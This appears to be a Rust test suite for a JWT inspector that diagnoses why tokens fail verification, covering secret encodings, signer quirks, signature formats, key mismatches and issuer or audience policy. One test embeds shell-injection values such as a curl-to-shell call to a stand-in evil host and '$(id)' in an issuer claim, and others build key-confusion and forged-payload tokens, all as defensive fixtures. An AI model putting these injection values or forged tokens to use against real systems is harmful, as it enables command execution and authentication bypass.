//! "Why is it refused?": each cause is found where it holds, and nothing is called proved that a
//! computation did not show.

use crate::common::{algorithm, interop_case, key as read_key, text_of};
use crate::support::{NOW, SECRET, at, case_of, mint_with};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE, URL_SAFE_NO_PAD};
use inspector::inspect::{Input, inspect};
use inspector::refusal::{Search, ids, search, standing};
use inspector::verdict::Policy;
use jose::base64url::encode;
use jose::jws;
use jose::key::{Key, SecretEncoding};
use proptest::prelude::*;
use serde_json::{Value, json};
use std::collections::BTreeSet;

const HEADER: &str = r#"{"alg":"HS256","typ":"JWT"}"#;

fn payload() -> String {
    json!({"iss": "https://id.example", "sub": "ana", "aud": "api", "name": "Jörge", "exp": NOW + 3600})
        .to_string()
}

fn secret(bytes: impl AsRef<[u8]>) -> Key {
    Key::secret(bytes.as_ref(), SecretEncoding::Utf8)
}

/// The signing input of a token.
fn message(header: &str, payload: &str) -> String {
    format!("{}.{}", encode(header), encode(payload))
}

fn signature(name: &str, key: &Key, message: &[u8]) -> Vec<u8> {
    jws::sign(algorithm(name), key, message, &[7; 64]).unwrap()
}

/// A token whose signature is that of other bytes than usual.
fn token_of(name: &str, key: &Key, signed: &[u8]) -> String {
    let header = format!(r#"{{"alg":"{name}","typ":"JWT"}}"#);
    let signature = signature(name, key, signed);
    format!("{}.{}", message(&header, &payload()), encode(signature))
}

/// An HS256 token under a secret.
fn hmac(bytes: impl AsRef<[u8]>) -> String {
    token_of(
        "HS256",
        &secret(bytes),
        message(HEADER, &payload()).as_bytes(),
    )
}

/// What is found, with the words.
fn found(
    text: &str,
    key: &str,
    policy: &Policy,
    now: i64,
) -> (Search, Vec<(&'static str, String)>) {
    let input = Input {
        text: text.into(),
        key: key.into(),
        ..Input::default()
    };
    let inspection = inspect(&input, policy, at(now));
    let Some(case) = case_of(&input, &inspection, policy, at(now)) else {
        return (Search::default(), Vec::new());
    };
    let search = search(&case);
    let reasons = search
        .reasons()
        .iter()
        .cloned()
        .chain(standing(&case))
        .map(|reason| (reason.id, format!("{} {}", reason.what, reason.fix)))
        .collect();
    (search, reasons)
}

pub fn causes(text: &str, key: &str) -> Vec<(&'static str, String)> {
    found(text, key, &Policy::default(), NOW).1
}

fn pair(name: &str) -> (Key, String) {
    let case = interop_case("jose", name);
    (
        read_key(case["key"]["pem_pkcs8"].as_str().unwrap()),
        text_of(&case["key"]["pem_spki"]),
    )
}

fn reports() -> Vec<Value> {
    serde_json::from_str(include_str!("../fixtures/reports.json")).unwrap()
}

fn report(id: &str) -> (String, String) {
    let case = reports().into_iter().find(|case| case["id"] == id).unwrap();
    let text = |name: &str| case[name].as_str().unwrap_or_default().to_owned();
    (text("paste"), text("key"))
}

/// Id, token, key and a part of what is said.
type Row = (&'static str, String, String, &'static str);

/// Secrets that the signer read another way than the key box gives them.
fn secrets() -> Vec<Row> {
    let long = "correct-horse-battery-staple-32bytes!";
    let raw = [
        0x8f, 0x3a, 0x1c, 0x7b, 0xe2, 0x40, 0x9d, 0x56, 0xaa, 0x10, 0xff, 0x32, 0xc4, 0xd5,
    ];
    let hex: String = raw.iter().map(|byte| format!("{byte:02x}")).collect();
    let utf16: Vec<u8> = long.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let big: Vec<u8> = long.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let row = |id, signer: &[u8], typed: &str, said| (id, hmac(signer), typed.to_owned(), said);
    vec![
        row("secret-empty", b"", "", "empty"),
        row("secret-empty", b"", long, "empty"),
        row(
            "secret-newline",
            format!("{long}\n").as_bytes(),
            long,
            "a newline",
        ),
        row(
            "secret-newline",
            format!("{long}\r\n").as_bytes(),
            long,
            "CRLF",
        ),
        row(
            "secret-newline",
            format!("{long} ").as_bytes(),
            long,
            "a space",
        ),
        row(
            "secret-newline",
            long.as_bytes(),
            &format!("  {long} "),
            "white space",
        ),
        row(
            "secret-quotes",
            long.as_bytes(),
            &format!("\"{long}\""),
            "without its quotes",
        ),
        row(
            "secret-quotes",
            long.as_bytes(),
            &format!("“{long}”"),
            "typographic",
        ),
        row(
            "secret-quotes",
            format!("\"{long}\"").as_bytes(),
            long,
            "includes quotes",
        ),
        row(
            "secret-quotes",
            format!("'{long}'").as_bytes(),
            long,
            "includes quotes",
        ),
        row(
            "secret-wrapped",
            long.as_bytes(),
            &format!("JWT_SECRET={long}"),
            "JWT_SECRET",
        ),
        row(
            "secret-wrapped",
            long.as_bytes(),
            &format!("export JWT_SECRET=\"{long}\""),
            "JWT_SECRET",
        ),
        row(
            "secret-wrapped",
            long.as_bytes(),
            &format!("# prod\nA=1\njwt.secret={long}"),
            "jwt.secret",
        ),
        row(
            "secret-wrapped",
            long.as_bytes(),
            &format!("jwt:\n  secret: {long}\n"),
            "`secret`",
        ),
        row("secret-wrapped", &raw, &format!("KEY: {hex}"), "hex"),
        row(
            "secret-encoding",
            &raw,
            &format!("base64:{}", STANDARD.encode(raw)),
            "Laravel",
        ),
        row(
            "secret-encoded",
            STANDARD.encode(long).as_bytes(),
            long,
            "Base64 of this text",
        ),
        row(
            "secret-encoded",
            URL_SAFE_NO_PAD.encode("~~~~??").as_bytes(),
            "~~~~??",
            "Base64url",
        ),
        row(
            "secret-encoded",
            STANDARD.encode(format!("{long}\n")).as_bytes(),
            long,
            "and a newline",
        ),
        row(
            "secret-encoded",
            long.to_uppercase().as_bytes(),
            long,
            "capital",
        ),
        row(
            "secret-encoded",
            STANDARD.encode(STANDARD.encode(long)).as_bytes(),
            long,
            "Base64 of the Base64",
        ),
        row(
            "secret-percent",
            b"p@ss/word+chars",
            "p%40ss%2Fword%2Bchars",
            "percent-decoded",
        ),
        row(
            "secret-percent",
            b"p%40ss%2Fword",
            "p@ss/word",
            "percent-encoded",
        ),
        row("secret-charset", &utf16, long, "UTF-16"),
        row("secret-charset", &big, long, "big-endian"),
        row("secret-charset", b"gr\xFC\xDFe", "grüße", "Latin-1"),
        row("secret-charset", b"gr??e", "grüße", "question mark"),
        row(
            "secret-charset",
            "\u{FEFF}secret-with-mark".as_bytes(),
            "secret-with-mark",
            "byte order mark",
        ),
    ]
}

/// What signers do with the right key.
fn signers() -> Vec<Row> {
    let mut rows = Vec::new();
    let own = payload();
    let digest = |bytes: &[u8]| {
        jws::SigningInput::new(bytes)
            .digest(jose::algorithm::Hash::Sha256)
            .to_vec()
    };
    for (name, pair_name) in [
        ("RS256", "RS256 with RSA 2048"),
        ("ES256", "ES256"),
        ("HS256", ""),
    ] {
        let (private, public) = match pair_name {
            "" => (secret(SECRET), SECRET.to_owned()),
            _ => pair(pair_name),
        };
        let header = format!(r#"{{"alg":"{name}","typ":"JWT"}}"#);
        let input = message(&header, &own);
        let signed = |bytes: &[u8]| token_of(name, &private, bytes);
        let mut row = |id, token, said| rows.push((id, token, public.clone(), said));
        row(
            "signer-deviation",
            signed(&digest(input.as_bytes())),
            "twice",
        );
        row(
            "signed-other-bytes",
            signed(format!("{header}.{own}").as_bytes()),
            "JSON texts",
        );
        row(
            "signed-other-bytes",
            signed(encode(&own).as_bytes()),
            "payload alone",
        );
        row(
            "signed-other-bytes",
            signed(format!("{input}\n").as_bytes()),
            "newline at the end",
        );
        let padded = format!("{}.{}", URL_SAFE.encode(&header), URL_SAFE.encode(&own));
        row("padding", signed(padded.as_bytes()), "padding");
        let spaced = json_spaced(&own);
        row(
            "payload-rewritten",
            signed(message(&header, &spaced).as_bytes()),
            "as Python writes it",
        );
        row(
            "payload-rewritten",
            signed(message(&header, &format!("{own}\n")).as_bytes()),
            "newline",
        );
        let latin: Vec<u8> = own.chars().map(|c| c as u8).collect();
        let latin = format!("{}.{}", encode(&header), encode(latin));
        row("payload-rewritten", signed(latin.as_bytes()), "Latin-1");
        let changed = input.replacen('J', "j", 1);
        if changed != input {
            row("character-changed", signed(changed.as_bytes()), "changed");
        }
        let other = own.replace("ana", "Ana");
        row(
            "character-changed",
            signed(message(&header, &other).as_bytes()),
            "edited",
        );
    }
    let plain = digest(message(HEADER, &own).as_bytes());
    rows.push((
        "signer-deviation",
        format!("{}.{}", message(HEADER, &own), encode(plain)),
        SECRET.into(),
        "no HMAC",
    ));
    rows
}

/// The same JSON as Python's `json.dumps` writes it.
fn json_spaced(text: &str) -> String {
    let value: Value = serde_json::from_str(text).unwrap();
    let members = value.as_object().unwrap().iter();
    let members: Vec<String> = members
        .map(|(name, value)| format!("\"{name}\": {value}"))
        .collect();
    format!("{{{}}}", members.join(", "))
}

/// The forms that signatures come in.
fn forms() -> Vec<Row> {
    let input = message(HEADER, &payload());
    let right = signature("HS256", &secret(SECRET), input.as_bytes());
    let hex: String = right.iter().map(|byte| format!("{byte:02x}")).collect();
    let behind = |signature: &str| format!("{input}.{signature}");
    let row = |id, token, said| (id, token, String::new(), said);
    let mut rows = vec![
        row("payload-alone", encode(payload()), "payload alone"),
        row("signature-redacted", behind("<signature>"), "removed"),
        row("signature-redacted", behind("REDACTED"), "removed"),
        row("signature-redacted", behind("[REDACTED]"), "removed"),
        row("signature-redacted", behind("***"), "removed"),
        row("token-cut", format!("{}...", &input[..60]), "cut off"),
        row("token-cut", format!("{input}..."), "cut off"),
        row("token-cut", format!("{input}…"), "cut off"),
        row("signature-empty", behind(""), "exactly 32 bytes"),
        row("signature-hex", behind(&encode(&hex)), "hex"),
        row("signature-hex", behind(&hex), "hex"),
        row(
            "signature-base64-twice",
            behind(&encode(STANDARD.encode(&right))),
            "Base64",
        ),
        row(
            "signature-length",
            behind(&encode(&right[..15])),
            "15 bytes",
        ),
        row(
            "signature-length",
            behind(&encode([&right[..], &[0; 3]].concat())),
            "too long",
        ),
    ];
    for id in ["signature-hex", "signature-base64-twice"] {
        let row = rows.iter().find(|row| row.0 == id).unwrap().clone();
        rows.push((row.0, row.1, SECRET.into(), "match under this key"));
    }
    for id in [
        "es-der-nokey",
        "es-short",
        "trunc-nokey",
        "sig-hex",
        "payload-latin1",
    ] {
        let (token, key) = report(id);
        let cause = match id {
            "es-der-nokey" => "signature-der",
            "es-short" => "signature-zero-lost",
            "sig-hex" => "signature-hex",
            "payload-latin1" => "payload-charset",
            _ => "signature-length",
        };
        rows.push((cause, token, key, ""));
    }
    rows
}

/// Names in the header, keys of a set, other tokens.
fn names() -> Vec<Row> {
    let named = |alg: &str| {
        let header = json!({"alg": alg, "typ": "JWT"}).to_string();
        let input = message(&header, &payload());
        let signature = signature("HS256", &secret(SECRET), input.as_bytes());
        format!("{input}.{}", encode(signature))
    };
    let mut rows: Vec<Row> = [
        "hs256",
        "HS-256",
        "HmacSHA256",
        "SHA256",
        "HS257",
        "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
    ]
    .iter()
    .map(|alg| {
        (
            "algorithm-name",
            named(alg),
            SECRET.to_owned(),
            "As HS256 it matches",
        )
    })
    .collect();
    let (first, second) = (hmac(SECRET), hmac("another-secret-of-32-bytes-or-more"));
    rows.push((
        "other-token",
        format!("{first}\n{second}"),
        "another-secret-of-32-bytes-or-more".into(),
        "number 2",
    ));
    for (id, cause) in [
        ("graph-nonce", "nonce-hashed"),
        ("graph-nokey", "nonce-hashed"),
        ("jwks-kid-missing", "kid-unknown"),
        ("ps-saltlen", "signer-deviation"),
        ("rs-sha1", "signer-deviation"),
        ("alb2-stripped", "padding"),
    ] {
        let (token, key) = report(id);
        rows.push((cause, token, key, ""));
    }
    let (private, _) = pair("ES256");
    let confused = token_of(
        "HS256",
        &secret(pair("ES256").1),
        message(HEADER, &payload()).as_bytes(),
    );
    rows.push(("key-confusion", confused, pair("ES256").1, "key confusion"));
    rows.push((
        "key-kind",
        token_of("ES256", &private, b"x"),
        pair("RS256 with RSA 2048").1,
        "This key can check",
    ));
    for (id, said) in [
        ("pem-truncated", "Supply the RSA public key"),
        ("rs-with-secret", "Supply the RSA public key"),
    ] {
        let (token, key) = report(id);
        rows.push(("key-unreadable", token, key, said));
    }
    rows.push((
        "key-unreadable",
        hmac(SECRET),
        r#"{"kty":"oct"}"#.into(),
        "Supply the shared secret",
    ));
    let mut jwk = interop_case("jose", "ES256")["key"]["jwk"].clone();
    jwk["use"] = "enc".into();
    let own = token_of("ES256", &pair("ES256").0, b"x");
    rows.push(("key-forbids", own, jwk.to_string(), "`use`"));
    let (keys, set) = crate::support::set();
    let wrong = mint_with(&keys[1], r#"{"alg":"ES256","kid":"one"}"#, "{}");
    rows.push(("key-other", wrong, set, "number 2, `kid` `two`"));
    let header = r#"{"alg":"HS256","typ":"JWT"}"#;
    let input = message(header, &payload());
    let with_512 = signature("HS512", &secret(SECRET), input.as_bytes());
    rows.push((
        "algorithm-other",
        format!("{input}.{}", encode(with_512)),
        SECRET.into(),
        "HS512",
    ));
    let (rsa, rsa_public) = pair("RS256 with RSA 2048");
    let input = message(r#"{"alg":"PS256","typ":"JWT"}"#, &payload());
    let pkcs1 = signature("RS256", &rsa, input.as_bytes());
    rows.push((
        "algorithm-other",
        format!("{input}.{}", encode(pkcs1)),
        rsa_public,
        "RS256",
    ));
    rows
}

#[test]
fn each_cause_is_found_where_it_holds() {
    let mut seen = BTreeSet::new();
    for (id, token, key, said) in [secrets(), signers(), forms(), names()].concat() {
        let found = causes(&token, &key);
        let hit = found.iter().find(|(cause, _)| *cause == id);
        let Some((_, words)) = hit else {
            panic!("{id}: {found:?}\n{token}\n{key}");
        };
        assert!(words.contains(said), "{id}: {words}, expected {said}");
        // The likeliest stands first, and there is hardly ever a second.
        assert_eq!(found[0].0, id, "{found:?}");
        seen.insert(id);
    }
    for (id, policy, now, said) in policies() {
        let (_, found) = found(&hmac(SECRET), SECRET, &policy, now);
        let hit = found.iter().find(|(cause, _)| *cause == id);
        assert!(
            hit.is_some_and(|(_, words)| words.contains(said)),
            "{id}: {found:?}"
        );
        seen.insert(id);
    }
    let (token, key) = report("exp-noiat");
    assert_eq!(causes(&token, &key)[0].0, "exp-duration");
    seen.insert("exp-duration");
    // These are found by examining, and are tested with it.
    seen.extend(["other-signature"]);
    let missing: Vec<_> = ids().filter(|id| !seen.contains(id)).collect();
    assert!(missing.is_empty(), "{missing:?}");
}

/// Times and policies that a good token fails.
fn policies() -> Vec<(&'static str, Policy, i64, &'static str)> {
    let exp = NOW + 3600;
    let issuer = |issuer: &str| Policy {
        issuer: issuer.into(),
        ..Policy::default()
    };
    let audience = |audience: &str| Policy {
        audience: audience.into(),
        ..Policy::default()
    };
    vec![
        ("time-skew", Policy::default(), exp + 20, "leeway of 30 s"),
        ("time", Policy::default(), exp + 4000, "Get a new token"),
        ("issuer-near", issuer("https://id.example/"), NOW, "slash"),
        (
            "issuer-near",
            issuer("http://id.example"),
            NOW,
            "`http` and `https`",
        ),
        (
            "issuer-near",
            issuer("https://ID.example"),
            NOW,
            "capital letters",
        ),
        ("audience-near", audience("api://api"), NOW, "api://"),
        ("audience-near", audience("API"), NOW, "capital letters"),
        ("policy", audience("other"), NOW, "Ask the issuer"),
    ]
}

#[test]
fn where_nothing_is_proved_it_is_said_what_was_tried() {
    let input = Input {
        text: hmac(SECRET),
        key: "quite another secret, long enough for it".into(),
        ..Input::default()
    };
    let policy = Policy::default();
    let inspection = inspect(&input, &policy, at(NOW));
    let case = case_of(&input, &inspection, &policy, at(NOW)).unwrap();
    let search = search(&case);
    assert_eq!(search.reasons(), []);
    let said = search.in_vain(&case).unwrap();
    for tried in ["Base64", "newline", "quotes", "one character"] {
        assert!(said.tried.contains(tried), "{said:?}");
    }
    assert!(
        said.compared > 100 && !said.tried.contains(": ,"),
        "{said:?}"
    );
}

#[test]
fn nothing_is_called_near_that_is_another_issuer() {
    let v2 = |tenant: &str| format!("https://login.microsoftonline.com/{tenant}/v2.0");
    let near = |wanted: &str, found: &str| {
        let token = mint_with(
            &secret(SECRET),
            HEADER,
            &json!({"iss": found, "exp": NOW + 3600}).to_string(),
        );
        let policy = Policy {
            issuer: wanted.into(),
            ..Policy::default()
        };
        let (_, found) = found_with(&token, &policy);
        found.iter().any(|(id, _)| *id == "issuer-near")
    };
    assert!(near(&v2("a"), "https://sts.windows.net/a/"));
    for (wanted, found) in [
        (v2("a"), v2("b")),
        (v2("a"), "https://sts.windows.net/b/".into()),
        ("auth-service".to_owned(), "evil".to_owned()),
        (
            "https://id.example".to_owned(),
            "https://evil.example".to_owned(),
        ),
    ] {
        assert!(!near(&wanted, &found), "{wanted} {found}");
    }
}

fn found_with(token: &str, policy: &Policy) -> (Search, Vec<(&'static str, String)>) {
    found(token, SECRET, policy, NOW)
}

#[test]
fn without_a_key_nobody_is_told_that_the_key_is_wrong() {
    let input = Input {
        text: hmac(SECRET),
        ..Input::default()
    };
    let policy = Policy::default();
    let inspection = inspect(&input, &policy, at(NOW));
    let case = case_of(&input, &inspection, &policy, at(NOW)).unwrap();
    assert_eq!(search(&case).in_vain(&case), None);
    // A key that is in the token proves nothing about another token.
    let (proof, _) = report("dpop");
    let paste = format!("{}\n{proof}", hmac(SECRET));
    assert_eq!(causes(&paste, ""), []);
}

#[test]
fn what_a_token_names_is_no_command() {
    let (keys, set) = crate::support::set();
    for (issuer, is_safe) in [
        ("https://id.example", true),
        ("https://id.example/;curl evil.example|sh;", false),
        ("https://id.example/$(id)", false),
        ("https://id.example/ -o x", false),
    ] {
        let token = mint_with(
            &keys[0],
            r#"{"alg":"ES256","kid":"three"}"#,
            &json!({ "iss": issuer }).to_string(),
        );
        let tampered = format!("{}AA", &token[..token.len() - 2]);
        let found = causes(&tampered, &set);
        let said = &found.iter().find(|(id, _)| *id == "kid-unknown").unwrap().1;
        assert_eq!(said.contains("curl"), is_safe, "{said}");
    }
}

#[test]
fn a_long_nonce_or_key_costs_no_memory() {
    let header = format!(
        r#"{{"alg":"HS256","nonce":"A","x":"{}"}}"#,
        "A".repeat(100_000)
    );
    let token = format!("{}.{}.{}", encode(header), encode("{}"), encode([0; 32]));
    causes(&token, "a secret of some length for it");
    causes(&hmac(SECRET), &"k".repeat(900_000));
}

#[test]
fn a_valid_token_has_no_cause_and_a_search_can_be_stopped() {
    assert_eq!(causes(&hmac(SECRET), SECRET), []);
    let mut search = Search::default();
    assert!(!search.is_done());
    search.stop();
    assert!(search.is_done());
}

proptest! {
    /// A key that is none of the signer's proves nothing, whatever it looks like.
    #[test]
    fn a_wrong_secret_never_proves_a_cause(typed in "[ -~äß“”]{0,40}") {
        let token = hmac("a secret that nobody would type here, ever");
        let mut found = causes(&token, &typed);
        // That a text is no key at all is said.
        found.retain(|(id, _)| *id != "key-unreadable");
        prop_assert!(found.is_empty(), "{found:?}");
    }

    /// Nor does a right one for another payload.
    #[test]
    fn a_changed_payload_never_proves_a_cause(sub in "[a-z]{4,12}") {
        let other = json!({"sub": format!("{sub}-0"), "role": "admin"}).to_string();
        let signature = signature("HS256", &secret(SECRET), message(HEADER, &payload()).as_bytes());
        let token = format!("{}.{}", message(HEADER, &other), encode(signature));
        let found = causes(&token, SECRET);
        prop_assert!(found.is_empty(), "{found:?}");
    }

    /// No text and no key makes the search fail or run on.
    #[test]
    fn any_paste_and_any_key_end(text in "\\PC{0,200}", key in "\\PC{0,80}") {
        causes(&text, &key);
        causes(&format!("{}{text}", hmac(SECRET)), &key);
    }
}
